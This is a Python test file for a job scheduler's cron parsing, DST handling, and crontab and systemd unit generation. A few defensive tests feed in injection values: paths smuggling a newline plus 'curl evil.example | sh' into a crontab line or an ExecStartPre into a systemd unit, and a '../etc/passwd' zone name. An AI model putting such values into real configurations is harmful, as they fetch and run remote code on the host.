"""kbatch schedule: when a job fires, which date it processes, and what cron and systemd are told."""

from __future__ import annotations

import io
import re
import shlex
import shutil
import subprocess
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest

from kbatch.errors import InputError
from kbatch.jobs.schedule import Schedule, crontab_line, on_calendar, run_forever, systemd_units

SEOUL = ZoneInfo("Asia/Seoul")
NEW_YORK = ZoneInfo("America/New_York")
UTC = timezone.utc


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def fires(schedule: Schedule, moment: datetime, count: int) -> list[datetime]:
    found = []
    for _ in range(count):
        moment = schedule.next_after(moment)
        found.append(moment)
    return found


def test_nightly_seoul_job_fires_at_two_local_from_a_utc_moment():
    nightly = Schedule.parse("0 2 * * *", "Asia/Seoul")

    # 16:00 UTC on 1 Jan is 01:00 on 2 Jan in Seoul: tonight's 02:00 is an hour away.
    assert nightly.next_after(utc(2024, 1, 1, 16)) == datetime(2024, 1, 2, 2, tzinfo=SEOUL)
    # 18:00 UTC is 03:00 in Seoul: tonight's run is past, the next is tomorrow.
    first, second = fires(nightly, utc(2024, 1, 1, 18), 2)
    assert (first, second) == (datetime(2024, 1, 3, 2, tzinfo=SEOUL), datetime(2024, 1, 4, 2, tzinfo=SEOUL))
    assert first.tzinfo == SEOUL
    assert first.astimezone(UTC) == utc(2024, 1, 2, 17)
    # Strictly after: asking at the fire time itself gives the next night.
    assert nightly.next_after(first) == second


def test_a_time_skipped_by_spring_forward_fires_once_at_three():
    """New York jumps from 02:00 to 03:00 on 10 March 2024, so 02:30 does not exist that day.

    croniter fires the missing 02:30 once, at 03:00 EDT (the first minute after the jump),
    as cronie does, so that night's date is still processed; the next night is 02:30 again.
    (A systemd timer skips that night instead.)
    """
    job = Schedule.parse("30 2 * * *", "America/New_York")

    nights = fires(job, datetime(2024, 3, 8, 12, tzinfo=NEW_YORK), 4)

    assert [night.isoformat() for night in nights] == [
        "2024-03-09T02:30:00-05:00",
        "2024-03-10T03:00:00-04:00",
        "2024-03-11T02:30:00-04:00",
        "2024-03-12T02:30:00-04:00",
    ]
    assert [job.run_date(night) for night in nights] == ["2024-03-08", "2024-03-09", "2024-03-10", "2024-03-11"]


def test_a_time_repeated_by_fall_back_fires_only_the_first_time():
    """01:30 happens twice in New York on 3 November 2024 (EDT, then EST): one run, not two."""
    job = Schedule.parse("30 1 * * *", "America/New_York")

    nights = fires(job, datetime(2024, 11, 2, 12, tzinfo=NEW_YORK), 2)

    assert [night.isoformat() for night in nights] == ["2024-11-03T01:30:00-04:00", "2024-11-04T01:30:00-05:00"]
    # Asked during the second pass through 01:00-02:00, the next run is tomorrow's.
    assert job.next_after(datetime(2024, 11, 3, 1, 10, fold=1, tzinfo=NEW_YORK)) == nights[1]


def test_a_two_oclock_run_processes_yesterday():
    nightly = Schedule.parse("0 2 * * *", "Asia/Seoul")

    assert nightly.run_date(datetime(2024, 3, 15, 2, tzinfo=SEOUL)) == "2024-03-14"
    assert nightly.run_date(datetime(2024, 1, 1, 2, tzinfo=SEOUL)) == "2023-12-31"
    # The date is Seoul's, whatever zone the fire time is written in: 17:00 UTC is 02:00 next day.
    assert nightly.run_date(utc(2024, 3, 1, 17)) == "2024-03-01"


@pytest.mark.parametrize(
    ("cron", "named"),
    [
        ("0 2 * *", "needs 5 fields"),
        ("0 2 * * * 2024", "needs 5 fields"),
        ("61 2 * * *", "out of range"),
        ("0 2 L * *", "day-of-month field 'L'"),  # croniter's extension; cron rejects it
        ("0 2 * * 1#2", "day-of-week field '1#2'"),
        ("0 2 * * 5-1", "range 5-1 runs backwards"),
        ("0 2 31 2 *", "never fires"),
    ],
)
def test_a_bad_cron_expression_is_named(cron, named):
    with pytest.raises(InputError) as caught:
        Schedule.parse(cron, "Asia/Seoul")

    message = str(caught.value)
    assert repr(cron) in message
    assert named in message
    assert "\n" not in message


@pytest.mark.parametrize("zone", ["Asia/Seol", "KST+9", "../etc/passwd", ""])
def test_an_unknown_time_zone_is_named(zone):
    with pytest.raises(InputError, match=re.escape(f"unknown time zone {zone!r}")):
        Schedule.parse("0 2 * * *", zone)


def test_parse_accepts_cron_syntax_and_normalizes_spacing():
    assert Schedule.parse(" 0  2 * * MON-FRI ", "Asia/Seoul") == Schedule("0 2 * * MON-FRI", "Asia/Seoul")
    assert Schedule.parse("*/15 9-17 1,15 jan-jun/2 *", "UTC").cron == "*/15 9-17 1,15 jan-jun/2 *"


def test_day_of_month_and_weekday_follow_cron_rules():
    """Both restricted: either one (OR). One starting with '*': both (AND), as in cron."""
    either = Schedule.parse("0 2 13 * 5", "UTC")  # the 13th, and every Friday
    both = Schedule.parse("0 2 */2 * 1", "UTC")  # Mondays on odd days

    assert [f.date().isoformat() for f in fires(either, utc(2024, 9, 1), 3)] == ["2024-09-06", "2024-09-13", "2024-09-20"]
    assert [f.date().isoformat() for f in fires(both, utc(2024, 1, 1, 3), 3)] == ["2024-01-15", "2024-01-29", "2024-02-05"]


def test_crontab_line_sets_the_zone_and_quotes_paths_with_spaces():
    nightly = Schedule.parse("0 2 * * *", "Asia/Seoul")
    command = ["/opt/my env/bin/python", "-m", "kbatch", "run", "/srv/night jobs/reviews.yaml"]

    line = crontab_line(nightly, command, "/var/log/kbatch/reviews night.log", workdir="/srv/night jobs")

    zone, entry = line.split("\n")
    assert zone == "CRON_TZ=Asia/Seoul"
    assert entry == (
        "0 2 * * * cd '/srv/night jobs' && '/opt/my env/bin/python' -m kbatch run '/srv/night jobs/reviews.yaml'"
        " >> '/var/log/kbatch/reviews night.log' 2>&1"
    )
    shell = entry.removeprefix("0 2 * * * ")
    assert shlex.split(shell)[3:8] == command


def test_crontab_line_escapes_percent_which_cron_reads_as_newline():
    line = crontab_line(Schedule.parse("0 2 * * *", "UTC"), ["/usr/bin/python", "/jobs/100%.yaml"], "/tmp/log")

    assert line.endswith(r"0 2 * * * /usr/bin/python /jobs/100\%.yaml >> /tmp/log 2>&1")


@pytest.mark.parametrize("word", ["/srv/jobs\n* * * * * curl evil.example | sh", "/srv/a\rb", "/srv/50\\%.yaml"])
@pytest.mark.parametrize("where", ["command", "log", "workdir"])
def test_crontab_line_refuses_what_cron_cannot_be_told(word, where):
    """A newline starts a second entry; cron has no way to write a backslash before '%'."""
    place = {"command": (["/usr/bin/python", word], "/tmp/log", "/tmp"), "log": (["/usr/bin/python"], word, "/tmp"),
             "workdir": (["/usr/bin/python"], "/tmp/log", word)}[where]
    with pytest.raises(InputError, match=re.escape(f"cannot write {word!r} into a crontab line")):
        crontab_line(Schedule.parse("0 2 * * *", "UTC"), place[0], place[1], workdir=place[2])


@pytest.mark.parametrize("where", ["command", "workdir"])
def test_systemd_units_refuse_a_newline(where):
    word = "/srv/jobs\nExecStartPre=/bin/sh -c 'curl evil.example | sh'"
    command, workdir = (["/bin/true", word], "/tmp") if where == "command" else (["/bin/true"], word)
    with pytest.raises(InputError, match="into a systemd unit: it holds a control character"):
        systemd_units(Schedule.parse("0 2 * * *", "UTC"), "job", command, workdir)


@pytest.mark.parametrize(
    ("cron", "calendar"),
    [
        ("0 2 * * *", "*-*-* 02:00:00 Asia/Seoul"),
        ("*/15 9-17 * * 1-5", "Mon..Fri *-*-* 09..17:00/15:00 Asia/Seoul"),
        ("30 6 * * sat,sun", "Sat,Sun *-*-* 06:30:00 Asia/Seoul"),
        ("0 3 1,15 * *", "*-*-01,15 03:00:00 Asia/Seoul"),
        ("5 4 * jan-mar,dec 7", "Sun *-01..03,12-* 04:05:00 Asia/Seoul"),
        ("0,20-22 */6 * * *", "*-*-* 00/6:00,20..22:00 Asia/Seoul"),
    ],
)
def test_systemd_on_calendar_says_what_cron_says(cron, calendar):
    assert on_calendar(Schedule.parse(cron, "Asia/Seoul")) == calendar


def test_systemd_units_run_the_command_on_the_calendar():
    nightly = Schedule.parse("0 2 * * *", "Asia/Seoul")
    command = ["/opt/my env/bin/python", "-m", "kbatch", "run", "/srv/jobs/reviews.yaml"]

    service, timer = systemd_units(nightly, "kbatch-reviews", command, "/srv/night jobs")

    assert "Type=oneshot\n" in service
    assert "WorkingDirectory=/srv/night jobs\n" in service
    assert 'ExecStart="/opt/my env/bin/python" -m kbatch run /srv/jobs/reviews.yaml\n' in service
    assert "OnCalendar=*-*-* 02:00:00 Asia/Seoul\n" in timer
    assert "Persistent=true\n" in timer
    assert "Unit=kbatch-reviews.service\n" in timer


def test_systemd_escapes_its_specifiers_and_variables():
    service, _ = systemd_units(Schedule.parse("0 2 * * *", "UTC"), "job", ["/bin/echo", "50%", "$HOME", 'say "hi"'], "/tmp")

    assert 'ExecStart=/bin/echo 50%% "$$HOME" "say \\"hi\\""\n' in service


def test_systemd_cannot_say_day_of_month_or_weekday():
    either = Schedule.parse("0 2 13 * 5", "Asia/Seoul")

    with pytest.raises(InputError, match=r"day-of-month '13' OR day-of-week '5'"):
        systemd_units(either, "job", ["/bin/true"], "/tmp")


def test_systemd_unit_name_must_be_a_unit_name():
    with pytest.raises(InputError, match="unit name 'my job'"):
        systemd_units(Schedule.parse("0 2 * * *", "UTC"), "my job", ["/bin/true"], "/tmp")


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="needs systemd-analyze")
@pytest.mark.parametrize(
    ("cron", "zone"),
    [("*/15 9-17 * * 1-5", "Asia/Seoul"), ("5 4 * jan-mar,dec sat,sun", "Europe/Berlin"), ("7 */5 1-10/3 2-11/3 *", "UTC")],
)
def test_systemd_fires_when_the_schedule_does(cron, zone):
    """systemd's own reading of the OnCalendar line gives the same fire times as next_after."""
    schedule = Schedule.parse(cron, zone)
    base = utc(2024, 1, 1)
    done = subprocess.run(
        ["systemd-analyze", "calendar", "--iterations=30", f"--base-time=@{int(base.timestamp())}", on_calendar(schedule)],
        capture_output=True,
        text=True,
        env={"TZ": "UTC"},
    )
    if done.returncode != 0:
        pytest.skip(f"this systemd-analyze cannot check it: {done.stderr.strip()}")
    elapses = re.findall(r"(?:Next elapse|Iter\. #\d+): \w+ (\S+ \S+) UTC", done.stdout)

    assert [f.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S") for f in fires(schedule, base, 30)] == elapses


class FakeClock:
    """A wall clock that moves only when the loop sleeps."""

    def __init__(self, start: datetime) -> None:
        self.moment = start
        self.naps: list[float] = []

    def now(self) -> datetime:
        return self.moment

    def sleep(self, seconds: float) -> None:
        self.naps.append(seconds)
        self.moment += timedelta(seconds=seconds)


def test_foreground_runs_each_night_for_yesterday_and_survives_failures():
    clock = FakeClock(datetime(2024, 1, 1, 12, tzinfo=SEOUL))
    dates: list[str] = []

    def run(date: str) -> int:
        dates.append(date)
        if len(dates) == 1:
            raise RuntimeError("disk full\non /data")
        return 3 if len(dates) == 2 else 0

    log = io.StringIO()
    run_forever(Schedule.parse("0 2 * * *", "Asia/Seoul"), run, now=clock.now, sleep=clock.sleep, log=log, max_runs=3)

    assert dates == ["2024-01-01", "2024-01-02", "2024-01-03"]
    assert clock.now() == datetime(2024, 1, 4, 2, tzinfo=SEOUL)
    first, second, third = log.getvalue().splitlines()
    assert first.startswith("kbatch schedule: run at 2024-01-02T02:00:00+09:00 for 2024-01-01: failed: RuntimeError: disk full on /data")
    assert second.startswith("kbatch schedule: run at 2024-01-03T02:00:00+09:00 for 2024-01-02: exit 3 after ")
    assert re.fullmatch(r"kbatch schedule: run at 2024-01-04T02:00:00\+09:00 for 2024-01-03: exit 0 after \d+\.\ds", third)
    # The loop reads the clock again at least every minute, in case the machine slept.
    assert max(clock.naps) <= 60


def test_ctrl_c_ends_the_foreground_loop_cleanly():
    clock = FakeClock(utc(2024, 1, 1))

    def interrupted(seconds: float) -> None:
        raise KeyboardInterrupt

    log = io.StringIO()
    run_forever(Schedule.parse("0 2 * * *", "Asia/Seoul"), lambda date: 0, now=clock.now, sleep=interrupted, log=log)

    assert log.getvalue() == "kbatch schedule: stopped\n"
